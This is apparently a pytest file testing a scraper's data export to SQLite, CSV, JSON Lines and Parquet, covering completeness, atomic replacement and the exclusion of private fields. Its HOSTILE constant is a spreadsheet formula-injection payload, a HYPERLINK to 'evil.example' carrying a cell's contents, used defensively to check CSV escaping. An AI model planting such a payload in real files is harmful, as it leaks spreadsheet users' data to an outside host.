"""Data out: opened again by other programs, whole or not at all, and nothing in it that is nobody's business."""

from __future__ import annotations

import csv
import hashlib
import json
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from threading import Event
from typing import Any

import pytest
from pyarrow import parquet

from scraper.errors import InputError, StorageError
from scraper.jobs import export as job
from scraper.jobs import tables, tick
from scraper.jobs.export import Exported, Wanted
from scraper.jobs.rooms import Rooms
from scraper.storage.dictionary import TABLES, USUAL
from scraper.storage.exporting import Scope
from scraper.storage.store import Store

from .house import Clock, Item, Site, one, rooms, rows, statement

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1)\r\n\u202e한미일, 共同 "声明"'
SECRET = "hunter2-token"


@pytest.fixture
def made(tmp_path: Path, clock: Clock, site: Site) -> Iterator[Rooms]:
    """A home that read one statement on an official page, in a newspaper and on a site of which only excerpts may be kept."""
    told = statement(name="Trilateral Harbour Dialogue")
    for path, folder in (("/feed", ""), ("/press", "/press"), ("/thin", "/thin")):
        site.publish(Item(f"{folder}{told.path}", told.title, told.text, told.at), path=path)
    polled = [
        site.source(),
        site.source("press", "/press", official=False, party="", publisher="press"),
        site.source("thin", "/thin", official=False, party="", publisher="thin", store="excerpt"),
    ]
    with rooms(tmp_path / "home", clock, polled) as opened:
        tick.tick(opened, Event())
        yield opened


def export(made: Rooms, output: Path, form: str = "sqlite", **wanted: Any) -> Exported:
    return job.export(made.store, made.home.config, Wanted(form, output, **wanted))


def opened(path: Path) -> sqlite3.Connection:
    return sqlite3.connect(f"file:{path}?mode=ro&immutable=1", uri=True)


def table(path: Path, sql: str) -> list[tuple[Any, ...]]:
    with closing(opened(path)) as connection:
        return connection.execute(sql).fetchall()


# --- what goes out


def test_the_frozen_file_stands_by_itself(made: Rooms, tmp_path: Path) -> None:
    told: list[tuple[str, int, int]] = []
    done = job.export(made.store, made.home.config, Wanted("sqlite", tmp_path / "x.sqlite"), lambda *said: told.append(said))
    assert sorted(path.name for path in tmp_path.iterdir()) == ["home", "x.sqlite"]
    assert set(done.rows) == set(USUAL)
    assert done.bytes == (tmp_path / "x.sqlite").stat().st_size
    assert ("articles", 3, 3) in told
    assert table(done.output, "PRAGMA integrity_check") == [("ok",)]
    assert table(done.output, "PRAGMA foreign_key_check") == []
    assert table(done.output, "PRAGMA journal_mode") == [("delete",)]
    assert done.output.read_bytes()[18:20] == b"\x01\x01"  # the file's own word that it has no write-ahead log
    assert table(done.output, "SELECT count(*), sum(official) FROM articles") == [(3, 1)]
    assert table(
        done.output,
        "SELECT i.name FROM flags f JOIN initiatives i ON i.id = f.initiative_id WHERE f.kind = 'new_initiative' AND f.superseded_at IS NULL",
    ) == [("Trilateral Harbour Dialogue",)]


def test_every_column_is_told_of(made: Rooms, tmp_path: Path) -> None:
    path = export(made, tmp_path / "x.sqlite").output
    for name in USUAL:
        columns = [row[1] for row in table(path, f"PRAGMA table_info({name})")]
        said = dict(table(path, f'SELECT "column", meaning FROM dictionary WHERE "table" = \'{name}\''))
        assert set(said) == {*columns, ""}
        assert all(said.values())
    about = dict(table(path, "SELECT key, value FROM about"))
    assert about["rules of relevance"] == one(made, "SELECT DISTINCT rules FROM articles")
    assert about["schema"] == one(made, "SELECT max(name) FROM _sqlite_migrations")
    assert about["press texts"] == "left out"
    assert dict(table(path, "SELECT rule, rows FROM rules"))["relevance/" + about["rules of relevance"]] == 3


def test_files_that_conclusions_hang_on_are_told_by_their_hashes(made: Rooms, tmp_path: Path) -> None:
    made.home.config.mkdir()
    (made.home.config / "watch.toml").write_bytes(b"x = 1\n")
    about = dict(table(export(made, tmp_path / "x.sqlite").output, "SELECT key, value FROM about"))
    assert about["sha256 of watch.toml"] == hashlib.sha256(b"x = 1\n").hexdigest()
    assert about["sha256 of wording.toml"] == "the packaged one"
    assert not any("alerts" in key for key in about)


def test_press_texts_stay_at_home_and_their_hashes_and_evidence_go(made: Rooms, tmp_path: Path) -> None:
    path = export(made, tmp_path / "x.sqlite").output
    texts = rows(made, "SELECT id, source_id, text, statement_text FROM articles ORDER BY id")
    assert len(texts) == 3
    for number, source, text, said in texts:
        ((kept, kept_said, digest),) = table(path, f"SELECT text, statement_text, text_sha256 FROM articles WHERE id = {number}")
        assert digest == hashlib.sha256(text.encode()).hexdigest()
        assert (kept, kept_said) == ((text, said) if source == "ministry" else (None, None))
    mentions = table(path, "SELECT a.official, m.sentence, m.sentence_before FROM mentions m JOIN articles a ON a.id = m.article_id")
    assert len(mentions) >= 3
    assert all(sentence for _, sentence, _ in mentions)
    assert all((before is not None) == bool(official) for official, _, before in mentions)


def test_with_press_texts_those_go_that_may_be_kept_in_full(made: Rooms, tmp_path: Path) -> None:
    path = export(made, tmp_path / "x.sqlite", scope=Scope(press=True)).output
    assert table(path, "SELECT source_id, text IS NOT NULL FROM articles ORDER BY source_id") == [
        ("ministry", 1),
        ("press", 1),
        ("thin", 0),
    ]


def test_former_texts_of_the_press_stay_at_home_too(made: Rooms, tmp_path: Path) -> None:
    with made.store.transaction():
        for number in (1, 2, 3):
            made.store.insert(
                "revisions",
                {"article_id": number, "seen_at": "2026-07-10T00:00:00Z", "kind": "substance", "text": f"before {number}", "diff": "[]"},
            )
    path = export(made, tmp_path / "x.sqlite").output
    official = {row[0] for row in rows(made, "SELECT id FROM articles WHERE official")}
    told = table(path, "SELECT article_id, text, diff, text_sha256 FROM revisions")
    assert [(number in official) == (text == f"before {number}") == (diff == "[]") for number, text, diff, _ in told] == [True] * 3
    assert [digest for *_, digest in told] == [hashlib.sha256(f"before {number}".encode()).hexdigest() for number, *_ in told]


def test_who_is_told_and_who_decided_stays_at_home(made: Rooms, tmp_path: Path) -> None:
    with made.store.transaction():
        made.store.insert(
            "reviews", {"at": "2026-07-09T12:00:00Z", "who": SECRET, "action": "confirm", "subject": "x", "value": "", "note": "why"}
        )
        made.store.write("UPDATE sources SET url = url || ?", (f"?key={SECRET}",))
        made.store.insert(
            "digests",
            {"channel": SECRET, "made_at": "2026-07-09T12:00:00Z", "subject": SECRET, "message_id": SECRET, "text": SECRET, "html": SECRET},
        )
        made.store.insert("alerts", {"key": SECRET, "kind": "disk", "raised_at": "2026-07-09T12:00:00Z", "detail": SECRET})
        made.store.write("INSERT INTO marks VALUES ('x', ?)", (SECRET,))
    path = export(made, tmp_path / "x.sqlite", names=tuple(TABLES)).output
    assert SECRET.encode() not in path.read_bytes()
    there = {row[0] for row in table(path, "SELECT name FROM sqlite_master WHERE type = 'table'")}
    assert there == {*TABLES, "about", "rules", "dictionary"}
    assert table(path, "SELECT action, note FROM reviews") == [("confirm", "why")]


def test_only_what_is_of_statements_since_a_day(made: Rooms, clock: Clock, site: Site, tmp_path: Path) -> None:
    clock.advance(days=40)
    site.publish(statement("Tokyo", at=clock.now), path="/feed")
    tick.tick(made, Event())
    day = clock.now.date().isoformat()
    whole, since = export(made, tmp_path / "a.sqlite"), export(made, tmp_path / "b.sqlite", scope=Scope(since=day))
    assert (whole.rows["statements"], since.rows["statements"]) == (2, 1)
    assert (whole.rows["articles"], since.rows["articles"]) == (4, 1)
    assert (since.rows["events"], since.rows["initiatives"]) == (1, whole.rows["initiatives"])
    assert table(since.output, "SELECT DISTINCT date FROM statements") == [(day,)]
    assert table(since.output, "PRAGMA foreign_key_check") == []


def test_tables_of_choice(made: Rooms, tmp_path: Path) -> None:
    done = export(made, tmp_path / "x.sqlite", names=("polls", "mentions"))
    assert list(done.rows) == ["mentions", "polls"]
    assert done.rows["polls"] == 3


def test_the_same_state_gives_the_same_bytes(made: Rooms, clock: Clock, tmp_path: Path) -> None:
    first = export(made, tmp_path / "a.sqlite").output.read_bytes()
    clock.advance(hours=5)
    assert export(made, tmp_path / "b.sqlite").output.read_bytes() == first
    for form in ("csv", "jsonl"):
        one_, other = (export(made, tmp_path / f"{name}.{form}", form).output for name in "cd")
        assert {path.name: path.read_bytes() for path in one_.iterdir()} == {path.name: path.read_bytes() for path in other.iterdir()}


def test_it_is_read_at_one_moment_while_the_daemon_writes(made: Rooms, tmp_path: Path) -> None:
    said = []

    def tell(name: str, done: int, of: int) -> None:
        if name == "events" and done == 0:
            with Store(made.home.database, made.clock) as daemon, daemon.transaction():
                daemon.write(
                    "INSERT INTO initiatives (id, name, kind, scope, status, known, trilateral) VALUES ('late', 'Late', 'x', 'x', 'x', 0, 1)"
                )
                daemon.write("UPDATE statements SET title = 'Changed meanwhile'")
            said.append(of)

    path = job.export(made.store, made.home.config, Wanted("sqlite", tmp_path / "x.sqlite"), tell).output
    assert said
    assert table(path, "SELECT count(*) FROM initiatives WHERE id = 'late'") == [(0,)]
    assert table(path, "SELECT count(*) FROM statements WHERE title = 'Changed meanwhile'") == [(0,)]
    assert one(made, "SELECT count(*) FROM initiatives WHERE id = 'late'") == 1
    assert not made.store.db.conn.in_transaction


# --- forms


def test_csv_is_safe_for_spreadsheets_and_reversible(made: Rooms, tmp_path: Path) -> None:
    with made.store.transaction():
        made.store.write("UPDATE articles SET title = ? WHERE official", (HOSTILE,))
    folder = export(made, tmp_path / "csv", "csv").output
    raw = (folder / "articles.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with (folder / "articles.csv").open(encoding="utf-8-sig", newline="") as file:
        found = list(csv.DictReader(file))
    assert len(found) == 3
    titles = {row["title"] for row in found if row["official"] == "1"}
    assert titles == {f"'{HOSTILE}"}
    assert {row["url"] for row in found} == {row[0] for row in rows(made, "SELECT url FROM articles")}
    assert all(not value.startswith(tables.FORMULA[:-1]) for row in found for value in row.values())


def test_raw_csv_is_as_it_is(made: Rooms, tmp_path: Path) -> None:
    with made.store.transaction():
        made.store.write("UPDATE articles SET title = ? WHERE official", (HOSTILE,))
    folder = export(made, tmp_path / "csv", "csv", raw=True).output
    with (folder / "articles.csv").open(encoding="utf-8", newline="") as file:
        found = list(csv.DictReader(file))
    assert HOSTILE in {row["title"] for row in found}
    assert next(iter(found[0])) == "id"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "\nx", "＝1", "＋1", "－1", "＠x", "'quoted", "''"])
def test_what_looks_like_a_formula_gets_an_apostrophe_that_can_be_taken_away(text: str) -> None:
    assert str(tables.cell(text)).removeprefix("'") == text != tables.cell(text)


@pytest.mark.parametrize("value", ["", "plain", "한국", "a=b", " =1", 3, -3, 0.5, None])
def test_other_cells_stay(value: object) -> None:
    assert tables.cell(value) is value


def test_json_lines_keep_every_character_and_nothing(made: Rooms, tmp_path: Path) -> None:
    with made.store.transaction():
        made.store.write("UPDATE articles SET title = ?", (HOSTILE + "\u2028",))
    folder = export(made, tmp_path / "jsonl", "jsonl").output
    found = [json.loads(line) for line in (folder / "articles.jsonl").read_text("utf-8").split("\n")[:-1]]
    assert [row["title"] for row in found] == [HOSTILE + "\u2028"] * 3
    assert {row["text"] is None for row in found} == {True, False}
    assert list(found[0]) == [column.name for column in TABLES["articles"].columns]


def test_parquet_has_types_and_meanings(made: Rooms, tmp_path: Path) -> None:
    with made.store.transaction():
        made.store.write("UPDATE articles SET title = ?", (HOSTILE,))
    folder = export(made, tmp_path / "parquet", "parquet").output
    assert {path.name for path in folder.iterdir()} == {*(f"{name}.parquet" for name in USUAL), "datapackage.json"}
    found = parquet.read_table(folder / "articles.parquet")
    assert [str(found.schema.field(name).type) for name in ("id", "score", "title")] == ["int64", "double", "string"]
    assert found.column("title").to_pylist() == [HOSTILE] * 3
    assert found.schema.field("length").metadata[b"unit"] == b"character"
    frozen = export(made, tmp_path / "x.sqlite").output
    assert [tuple(row.values()) for row in found.to_pylist()] == table(frozen, "SELECT * FROM articles ORDER BY id")
    assert parquet.read_table(folder / "revisions.parquet").num_rows == 0


def test_a_folder_says_what_is_in_it(made: Rooms, tmp_path: Path) -> None:
    folder = export(made, tmp_path / "jsonl", "jsonl").output
    told = json.loads((folder / "datapackage.json").read_text("utf-8"))
    assert {one_["path"] for one_ in told["resources"]} == {f"{name}.jsonl" for name in USUAL}
    articles = next(one_ for one_ in told["resources"] if one_["name"] == "articles")
    assert articles["rows"] == 3
    assert articles["schema"]["primaryKey"] == ["id"]
    assert {"name": "length", "type": "integer", "description": "Length of the main text", "unit": "character"} in articles["schema"][
        "fields"
    ]
    assert told["about"]["zone of times"] == "UTC"


# --- where it goes


@pytest.mark.parametrize("form", ["sqlite", "csv"])
def test_an_earlier_export_is_replaced_when_asked(made: Rooms, tmp_path: Path, form: str) -> None:
    output = tmp_path / "out"
    export(made, output, form)
    with pytest.raises(InputError, match="there already"):
        export(made, output, form)
    with made.store.transaction():
        made.store.write("UPDATE articles SET title = 'Another'")
    export(made, output, form, replace=True)
    told = output.read_bytes() if form == "sqlite" else (output / "articles.csv").read_bytes()
    assert b"Another" in told
    assert sorted(path.name for path in tmp_path.iterdir()) == ["home", "out"]


def test_nothing_else_is_replaced(made: Rooms, tmp_path: Path) -> None:
    folder, file = tmp_path / "papers", tmp_path / "notes.txt"
    folder.mkdir()
    (folder / "thesis.txt").write_text("mine")
    file.write_text("mine")
    for output, form in ((folder, "csv"), (file, "sqlite"), (folder, "sqlite"), (file, "csv")):
        with pytest.raises(InputError, match="left alone"):
            export(made, output, form, replace=True)
    with pytest.raises(InputError, match="the database itself"):
        export(made, made.home.database, replace=True)
    assert (file.read_text(), (folder / "thesis.txt").read_text()) == ("mine", "mine")


@pytest.mark.parametrize("output", ["nowhere/x", "notes.txt/x"])
def test_a_place_that_is_none_is_a_sentence(made: Rooms, tmp_path: Path, output: str) -> None:
    (tmp_path / "notes.txt").write_text("mine")
    with pytest.raises(InputError, match="cannot be written"):
        export(made, tmp_path / output)


def test_a_failure_leaves_what_was_there_and_nothing_half(made: Rooms, tmp_path: Path) -> None:
    export(made, tmp_path / "x.sqlite")
    before = (tmp_path / "x.sqlite").read_bytes()

    def tell(name: str, done: int, _: int) -> None:
        if name == "mentions" and done == 0:
            raise StorageError("the disk fell out")

    with pytest.raises(StorageError, match="fell out"):
        job.export(made.store, made.home.config, Wanted("sqlite", tmp_path / "x.sqlite", replace=True), tell)
    assert (tmp_path / "x.sqlite").read_bytes() == before
    assert sorted(path.name for path in tmp_path.iterdir()) == ["home", "x.sqlite"]
    assert not made.store.db.conn.in_transaction


def test_a_reference_to_nothing_is_not_exported_quietly(made: Rooms, tmp_path: Path) -> None:
    made.store.db.conn.execute("PRAGMA foreign_keys = OFF")
    with made.store.transaction():
        made.store.write("UPDATE mentions SET article_id = 999 WHERE id = 1")
    with pytest.raises(StorageError, match="not sound"):
        export(made, tmp_path / "x.sqlite")
    assert not (tmp_path / "x.sqlite").exists()


def test_an_empty_home_is_exported_too(tmp_path: Path, clock: Clock) -> None:
    with rooms(tmp_path / "home", clock) as empty:
        done = export(empty, tmp_path / "x.sqlite")
        assert done.rows["statements"] == 0
        assert dict(table(done.output, "SELECT key, value FROM about"))["last page read at"] == ""
